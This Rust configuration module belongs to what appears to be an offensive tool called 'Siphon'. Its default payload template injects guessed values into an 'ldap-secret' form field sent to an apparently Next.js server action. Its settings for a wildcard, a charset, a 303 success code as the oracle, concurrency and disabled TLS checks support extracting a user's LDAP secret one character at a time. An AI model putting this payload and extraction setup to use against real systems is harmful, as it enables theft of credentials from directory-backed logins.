use crate::alphabet::Alphabet;
use reqwest::Url;
use reqwest::header::HeaderValue;
use serde::Deserialize;
use std::path::PathBuf;
use std::str::FromStr;
use std::time::Duration;
use thiserror::Error;

/// Form body used when no `payload-template` is configured.
pub const DEFAULT_PAYLOAD_TEMPLATE: &str =
    r#"1_ldap-username={username}&1_ldap-secret={candidate}&0=[{},"$K1"]"#;
pub const USERNAME_PLACEHOLDER: &str = "{username}";
pub const CANDIDATE_PLACEHOLDER: &str = "{candidate}";

/// Success status assumed when none (or garbage) is supplied.
pub const DEFAULT_SUCCESS_CODE: u16 = 303;

/// Errors raised while loading or validating a [`SiphonConfig`].
///
/// All of them are fatal and are reported before the first oracle query.
#[derive(Error, Debug)]
pub enum ConfigError {
    #[error("Failed to read config file at {path:?}: {source}")]
    Io {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("Failed to parse TOML from config file {path:?}: {source}")]
    Parse {
        path: PathBuf,
        #[source]
        source: toml::de::Error,
    },
    #[error("Required setting `{0}` is missing or empty")]
    MissingField(&'static str),
    #[error("Charset is empty, nothing to extract with")]
    EmptyCharset,
    #[error("Wildcard {0:?} also appears in the charset")]
    InvalidWildcard(char),
    #[error("Payload template must contain both {{username}} and {{candidate}}: {0:?}")]
    InvalidTemplate(String),
    #[error("Target URL {url:?} is not a usable http(s) URL: {reason}")]
    InvalidUrl { url: String, reason: String },
    #[error("Next-Action value {0:?} cannot be sent as an HTTP header")]
    InvalidHeader(String),
    #[error("Unknown strategy {0:?}, expected `sequential` or `concurrent`")]
    UnknownStrategy(String),
}

#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq, Default)]
#[serde(rename_all = "kebab-case")]
pub enum Strategy {
    #[default]
    Sequential,
    Concurrent,
}

impl Strategy {
    pub fn from_concurrent_flag(concurrent: bool) -> Self {
        if concurrent {
            Strategy::Concurrent
        } else {
            Strategy::Sequential
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Strategy::Sequential => "sequential",
            Strategy::Concurrent => "concurrent",
        }
    }
}

impl FromStr for Strategy {
    type Err = ConfigError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "sequential" => Ok(Strategy::Sequential),
            "concurrent" => Ok(Strategy::Concurrent),
            _ => Err(ConfigError::UnknownStrategy(s.to_string())),
        }
    }
}

/// Where the oracle lives and how a single query is shaped.
#[derive(Deserialize, Debug, Clone)]
#[serde(rename_all = "kebab-case")]
#[serde(deny_unknown_fields)]
pub struct TargetSettings {
    #[serde(default)]
    pub url: String,
    #[serde(default)]
    pub username: String,
    /// Forwarded verbatim as the `Next-Action` header on every query.
    #[serde(default)]
    pub next_action: Option<String>,
    #[serde(default = "default_success_code")]
    pub success_code: u16,
    #[serde(default = "default_timeout_ms")]
    pub timeout_ms: u64,
    /// Accept self-signed or otherwise invalid TLS certificates.
    #[serde(default)]
    pub insecure: bool,
    #[serde(default = "default_payload_template")]
    pub payload_template: String,
}

fn default_success_code() -> u16 {
    DEFAULT_SUCCESS_CODE
}

fn default_timeout_ms() -> u64 {
    10_000
}

fn default_payload_template() -> String {
    DEFAULT_PAYLOAD_TEMPLATE.to_string()
}

impl TargetSettings {
    pub fn timeout(&self) -> Duration {
        Duration::from_millis(self.timeout_ms)
    }
}

impl Default for TargetSettings {
    fn default() -> Self {
        Self {
            url: String::new(),
            username: String::new(),
            next_action: None,
            success_code: default_success_code(),
            timeout_ms: default_timeout_ms(),
            insecure: false,
            payload_template: default_payload_template(),
        }
    }
}

#[derive(Deserialize, Debug, Clone)]
#[serde(rename_all = "kebab-case")]
#[serde(deny_unknown_fields)]
pub struct ExtractionSettings {
    #[serde(default)]
    pub strategy: Strategy,
    /// Courtesy pause after every query, successful or not.
    #[serde(default = "default_delay_ms")]
    pub delay_ms: u64,
    #[serde(default = "default_wildcard")]
    pub wildcard: char,
    /// Overrides the built-in `a-z0-9` generator when set.
    #[serde(default)]
    pub charset: Option<String>,
    #[serde(default = "default_prune")]
    pub prune: bool,
    /// Stop once the prefix reaches this many characters. Unbounded when unset.
    #[serde(default)]
    pub max_length: Option<usize>,
}

pub fn default_delay_ms() -> u64 {
    200
}

fn default_wildcard() -> char {
    '*'
}

fn default_prune() -> bool {
    true
}

impl ExtractionSettings {
    pub fn delay(&self) -> Duration {
        Duration::from_millis(self.delay_ms)
    }
}

impl Default for ExtractionSettings {
    fn default() -> Self {
        Self {
            strategy: Strategy::default(),
            delay_ms: default_delay_ms(),
            wildcard: default_wildcard(),
            charset: None,
            prune: default_prune(),
            max_length: None,
        }
    }
}

#[derive(Deserialize, Debug, Clone, Default)]
#[serde(rename_all = "kebab-case")]
#[serde(deny_unknown_fields)]
pub struct SiphonConfig {
    #[serde(default)]
    pub target: TargetSettings,
    #[serde(default)]
    pub extraction: ExtractionSettings,
}

impl SiphonConfig {
    pub fn load_from_file(path: &PathBuf) -> Result<Self, ConfigError> {
        let content = std::fs::read_to_string(path).map_err(|source| ConfigError::Io {
            path: path.clone(),
            source,
        })?;

        toml::from_str(&content).map_err(|source| ConfigError::Parse {
            path: path.clone(),
            source,
        })
    }

    /// Checks everything that can be checked without talking to the target.
    pub fn validate(&self) -> Result<(), ConfigError> {
        if self.target.url.trim().is_empty() {
            return Err(ConfigError::MissingField("target.url"));
        }
        if self.target.username.trim().is_empty() {
            return Err(ConfigError::MissingField("target.username"));
        }
        self.check_url()?;
        if let Some(next_action) = &self.target.next_action
            && HeaderValue::from_str(next_action).is_err()
        {
            return Err(ConfigError::InvalidHeader(next_action.clone()));
        }

        let template = &self.target.payload_template;
        if !template.contains(USERNAME_PLACEHOLDER) || !template.contains(CANDIDATE_PLACEHOLDER) {
            return Err(ConfigError::InvalidTemplate(template.clone()));
        }

        let alphabet = self.alphabet();
        if alphabet.is_empty() {
            return Err(ConfigError::EmptyCharset);
        }
        if alphabet.contains(self.extraction.wildcard) {
            return Err(ConfigError::InvalidWildcard(self.extraction.wildcard));
        }
        Ok(())
    }

    fn check_url(&self) -> Result<(), ConfigError> {
        let raw = &self.target.url;
        let invalid = |reason: String| ConfigError::InvalidUrl {
            url: raw.clone(),
            reason,
        };
        let url = Url::parse(raw.trim()).map_err(|e| invalid(e.to_string()))?;
        match url.scheme() {
            "http" | "https" => {}
            other => return Err(invalid(format!("unsupported scheme `{other}`"))),
        }
        if url.host_str().is_none() {
            return Err(invalid("missing host".to_string()));
        }
        Ok(())
    }

    /// The alphabet extraction starts from, before pruning.
    pub fn alphabet(&self) -> Alphabet {
        match &self.extraction.charset {
            Some(charset) => Alphabet::from(charset.as_str()),
            None => Alphabet::default(),
        }
    }
}

/// Lenient status code parsing for operator-typed input.
pub fn parse_success_code(raw: &str) -> Option<u16> {
    raw.trim().parse().ok()
}
